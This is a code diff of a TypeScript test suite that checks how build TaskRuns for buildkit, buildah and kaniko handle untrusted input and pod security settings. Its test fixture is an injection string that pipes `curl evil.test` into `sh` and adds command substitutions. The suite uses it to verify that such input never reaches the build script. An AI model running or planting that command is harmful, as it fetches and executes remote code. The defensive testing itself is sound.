@@ -1,7 +1,9 @@
 import { Names } from '../engine/names';
 import { requestOf } from './__testUtils__/requests';
-import { imageMap, optionsOf, specificationOf } from './specification';
+import { imageLabels, imageMap, specificationOf } from './specification';
+import { BuilderName, strategies, Strategy } from './strategies';
 import {
+  builderOf,
   hasEnded,
   renderTaskRun,
   resultOf,
@@ -18,26 +20,35 @@ const key = {
 } as const;
 const hostile = `'; curl evil.test | sh; $(params.X) $(IMAGE) \${HOME} \`id\`\n"`;
 
-async function rendered(more = {}) {
+async function rendered(strategy: Strategy, more = {}) {
   const request = await requestOf(
     'ws-a',
     { Dockerfile: 'FROM scratch\n' },
-    { arguments: [{ name: 'X', value: hostile }], target: hostile, ...more },
+    {
+      arguments: [{ name: 'X', value: hostile }],
+      target: hostile,
+      dockerfile: hostile,
+      ...more,
+    },
   );
   return renderTaskRun({
-    request,
+    task: {
+      request,
+      labels: imageLabels(request, 'test'),
+      images: imageMap({}),
+    },
     key,
     names: new Names('test'),
-    builderImage: 'builder.test/buildkit:1',
+    builder: { strategy, image: 'builder.test/a:1', why: 'of this test' },
     resources: {
       requests: { cpu: '1', memory: '1Gi' },
       limits: { cpu: '2', memory: '2Gi' },
     },
+    registry: { address: 'r.test', isPlain: false },
     bundle: 'r.test/a@sha256:1',
     image: 'r.test/a:1',
     cache: 'r.test/a:cache',
     reuse: !request.noCache,
-    options: optionsOf(request, imageMap({}), 'test'),
     specification: specificationOf(request),
   });
 }
@@ -45,45 +56,108 @@ async function rendered(more = {}) {
 function stepOf(run: Awaited<ReturnType<typeof rendered>>) {
   const { taskSpec } = run.spec as {
     taskSpec: {
-      steps: { script: string; env: { name: string; value: string }[] }[];
+      steps: {
+        script: string;
+        env: { name: string; value: string }[];
+        securityContext: object;
+      }[];
     };
   };
-  const [{ script, env }] = taskSpec.steps;
+  const [{ script, env, securityContext }] = taskSpec.steps;
   return {
     script,
+    securityContext,
     environment: Object.fromEntries(
       env.map(({ name, value }) => [name, value]),
     ),
   };
 }
 
-it('writes the same script for every build; what differs is in the environment, where nothing can be replaced', async () => {
-  const { script, environment } = stepOf(await rendered());
-  expect(script).toBe(
-    stepOf(await rendered({ arguments: [], target: undefined })).script,
-  );
-  expect(environment.OPTIONS).toMatch(/^[A-Za-z0-9+/= ]+$/);
-  const options = environment.OPTIONS.split(' ').map(word =>
+function wordsOf(run: Awaited<ReturnType<typeof rendered>>): string[] {
+  const { environment } = stepOf(run);
+  expect(environment.WORDS).toMatch(/^[A-Za-z0-9+/= ]+$/);
+  return environment.WORDS.split(' ').map(word =>
     Buffer.from(word, 'base64').toString(),
   );
-  expect(options).toContain(`build-arg:X=${hostile}`);
-  expect(options).toContain(`target=${hostile}`);
-});
+}
 
-it('runs without the token of an account, and within Pod Security "baseline"', async () => {
-  const { spec } = await rendered();
-  expect(spec).toMatchObject({
-    podTemplate: { automountServiceAccountToken: false },
-    taskSpec: {
-      steps: [{ securityContext: { runAsUser: 1000, runAsGroup: 1000 } }],
+describe.each<[BuilderName, { words: string[]; securityContext: object }]>([
+  [
+    'buildkit',
+    {
+      words: [
+        `build-arg:X=${hostile}`,
+        `target=${hostile}`,
+        `filename=${hostile}`,
+      ],
+      securityContext: { runAsUser: 1000, runAsGroup: 1000 },
     },
-  });
-  expect(JSON.stringify(spec)).not.toMatch(/privileged|seccompProfile/i);
-});
+  ],
+  [
+    'buildah',
+    {
+      words: [
+        `--build-arg=X=${hostile}`,
+        `--target=${hostile}`,
+        `--file=${hostile}`,
+      ],
+      securityContext: { runAsUser: 0, allowPrivilegeEscalation: false },
+    },
+  ],
+  [
+    'kaniko',
+    {
+      words: [
+        `--build-arg=X=${hostile}`,
+        `--target=${hostile}`,
+        `--dockerfile=${hostile}`,
+      ],
+      securityContext: {
+        runAsUser: 0,
+        allowPrivilegeEscalation: false,
+        seccompProfile: { type: 'RuntimeDefault' },
+        capabilities: expect.objectContaining({ drop: ['ALL'] }),
+      },
+    },
+  ],
+])('a build with %s', (name, { words, securityContext }) => {
+  const strategy = strategies[name];
 
-it('asks for no cache where none is wanted, and still leaves one', async () => {
-  const { environment } = stepOf(await rendered({ noCache: true }));
-  expect(environment).toMatchObject({ REUSE: 'no', CACHE: 'r.test/a:cache' });
+  it('has the same script as every other; what differs is in the environment, where nothing can be replaced', async () => {
+    const run = await rendered(strategy);
+    const plain = { arguments: [], target: undefined, dockerfile: 'a' };
+    expect(stepOf(run).script).toBe(
+      stepOf(await rendered(strategy, plain)).script,
+    );
+    expect(stepOf(run).script).toBe(strategy.script);
+    expect(wordsOf(run)).toEqual(expect.arrayContaining(words));
+  });
+
+  it('runs without the token of an account, and within Pod Security "baseline"', async () => {
+    const run = await rendered(strategy);
+    expect(run.spec).toMatchObject({
+      podTemplate: { automountServiceAccountToken: false },
+    });
+    expect(stepOf(run).securityContext).toEqual(securityContext);
+    expect(JSON.stringify(run.spec)).not.toMatch(
+      /privileged|Unconfined|SYS_ADMIN|hostPath/,
+    );
+  });
+
+  it('uses no cache where none is wanted', async () => {
+    const run = await rendered(strategy, { noCache: true });
+    expect(stepOf(run).environment).toMatchObject({
+      REUSE: 'no',
+      CACHE: 'r.test/a:cache',
+    });
+  });
+
+  it('is known by its TaskRun', async () => {
+    expect(builderOf(await rendered(strategy))).toEqual({
+      strategy,
+      why: 'of this test',
+    });
+  });
 });
 
 it('gives the longest app a name to which Tekton can add its own', () => {
@@ -93,25 +167,6 @@ it('gives the longest app a name to which Tekton can add its own', () => {
   expect(taskRunName('web', key)).not.toBe(
     taskRunName('web', { ...key, attempt: 2 }),
   );
-});
-
-it('maps base images to named contexts by the names that BuildKit looks up', async () => {
-  const request = await requestOf(
-    'ws-a',
-    {},
-    { baseImages: ['node:22', 'docker.io/library/busybox', 'r.test/own:1'] },
-  );
-  const images = imageMap({
-    'docker.io/library/node:22': 'mirror.test/node:22',
-    'busybox:latest': 'mirror.test/busybox:1',
-  });
-  const contexts = optionsOf(request, images, 'test').filter(option =>
-    option.startsWith('context:'),
-  );
-  expect(contexts).toEqual([
-    'context:node:22=docker-image://mirror.test/node:22',
-    'context:busybox=docker-image://mirror.test/busybox:1',
-  ]);
 });
 
 it('tells an image by all that it is made from', async () => {
